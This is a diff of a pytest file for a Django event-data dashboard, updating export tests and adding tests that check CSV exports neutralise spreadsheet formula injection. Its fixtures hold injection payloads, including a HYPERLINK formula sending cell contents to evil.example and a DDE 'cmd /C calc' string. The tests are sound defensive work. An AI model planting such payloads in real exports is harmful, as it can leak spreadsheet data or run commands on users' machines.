@@ -9,7 +9,7 @@ import pytest
 from django.core.management import CommandError, call_command
 
 from dashboard.exports import CSV_COLUMNS
-from dashboard.models import Event
+from dashboard.models import Article, Event
 
 pytestmark = pytest.mark.django_db
 
@@ -17,7 +17,7 @@ EVENT_KEYS = {
     "id", "type", "status", "date", "date_precision", "end_date", "location", "summary",
     "confidence", "review", "related_event", "actors", "sources", "plover", "cameo",
 }  # fmt: skip
-SOURCE_KEYS = {"file", "title", "outlet", "published", "sentence"}
+SOURCE_KEYS = {"article", "url", "title", "outlet", "published", "sentence"}
 
 
 def export(*args) -> str:
@@ -43,8 +43,11 @@ def test_one_event_lists_each_article_that_reports_it():
         export("type=cancellation", "date_after=2018-08-24", "date_before=2018-08-24")
     )
     [event] = data["events"]
-    files = {source["file"] for source in event["sources"]}
-    assert len(files) == 3 and all(f.startswith("seeds/") for f in files)
+    articles = {source["article"] for source in event["sources"]}
+    assert articles == set(
+        Article.objects.filter(mentions__event=event["id"]).values_list("pk", flat=True)
+    )
+    assert len(articles) == 3
     # A cancelled trip is CAMEO 161; cancelled talks would be 164.
     assert event["plover"] == "SANCTION" and event["cameo"] == "161"
     assert event["related_event"] == Event.objects.get(pk=event["id"]).related_event_id
@@ -92,3 +95,56 @@ def test_csv_download_streams_exactly_the_filtered_rows(client):
     rows = list(csv.DictReader(io.StringIO(body)))
     assert len(rows) == Event.objects.visible().filter(status="cancelled").count() > 0
     assert {row["status"] for row in rows} == {"cancelled"}
+
+
+# ---------------------------------------------------------------------- formula injection
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tcmd", "\rcmd"]  # fmt: skip
+
+
+@pytest.fixture
+def formulas() -> list[Event]:
+    """Events whose text cells would start formulas in a spreadsheet."""
+    article = Article.objects.create(
+        source_key="test/formula.txt", source_file="test/formula.txt", title="=cmd|' /C calc'!A0",
+        outlet="@outlet", text="text", content_hash="formula", url="https://example.org/f",
+    )  # fmt: skip
+    events = []
+    for n, summary in enumerate(FORMULAS):
+        event = Event.objects.create(
+            event_type="statement", date=f"2030-01-{n + 1:02}", summary=summary,
+            location="-Pyongyang", confidence=0.25,
+        )  # fmt: skip
+        event.mentions.create(article=article, sentence="s", start=0, end=1)
+        events.append(event)
+    return events
+
+
+def _rows(csv_text: str) -> dict[str, dict]:
+    return {row["id"]: row for row in csv.DictReader(io.StringIO(csv_text))}
+
+
+def test_csv_cells_that_would_start_a_formula_are_written_as_text(client, formulas, tmp_path):
+    downloaded = _rows(
+        b"".join(client.get("/events.csv", {"date_after": "2030-01-01"}).streaming_content).decode()
+    )
+    target = tmp_path / "out.csv"
+    call_command("export_events", "--format", "csv", "-o", str(target), "date_after=2030-01-01")
+    with target.open(encoding="utf-8", newline="") as stream:  # keep the \r inside a cell
+        exported = _rows(stream.read())
+    for rows in (downloaded, exported):
+        assert len(rows) == len(FORMULAS)
+        for n, (event, summary) in enumerate(zip(formulas, FORMULAS, strict=True)):
+            row = rows[str(event.pk)]
+            assert row["summary"] == "'" + summary
+            assert row["location"] == "'-Pyongyang"
+            assert row["sources"] == ("'@outlet: =cmd|' /C calc'!A0 <https://example.org/f>")
+            # Numbers and dates as they were.
+            assert row["id"] == str(event.pk) and row["confidence"] == "0.25"
+            assert row["date"] == f"2030-01-{n + 1:02}"
+            assert row["related_event"] == ""
+
+
+def test_the_json_export_keeps_text_as_it_is(formulas):
+    data = json.loads(export("date_after=2030-01-01"))
+    assert sorted(e["summary"] for e in data["events"]) == sorted(FORMULAS)
